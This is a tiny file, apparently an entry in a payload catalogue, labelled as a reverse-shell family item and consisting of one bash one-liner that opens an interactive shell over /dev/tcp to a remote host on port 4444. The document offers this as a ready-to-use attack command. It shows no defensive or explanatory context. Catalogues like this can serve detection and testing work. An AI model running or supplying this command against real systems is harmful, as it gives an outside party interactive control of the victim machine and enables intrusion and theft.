# description: Opens an interactive bash reverse shell over /dev/tcp.
# family: reverse-shell
bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
